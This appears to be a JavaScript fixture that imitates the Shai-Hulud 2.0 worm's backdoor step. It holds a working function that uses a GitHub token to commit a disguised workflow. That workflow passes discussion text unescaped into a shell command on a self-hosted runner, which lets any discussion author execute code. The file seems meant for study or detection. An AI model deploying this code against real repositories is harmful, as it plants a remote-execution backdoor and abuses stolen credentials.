/* eslint-disable */
// Inert imitation of Shai-Hulud 2.0's backdoor step (incidents.md section 4): discussion.yaml is
// committed through the GitHub contents API. The function is exported but never called.
async function addBackdoor(token, owner, repo) {
  const body = Buffer.from('on: discussion\njobs:\n  run:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n').toString('base64');
  return fetch(`https://api.github.com/repos/${owner}/${repo}/contents/.github/workflows/discussion.yaml`, {
    method: 'PUT',
    headers: { authorization: `token ${token}`, accept: 'application/vnd.github+json' },
    body: JSON.stringify({ message: 'Add discussion workflow', content: body }),
  });
}

module.exports = { addBackdoor };
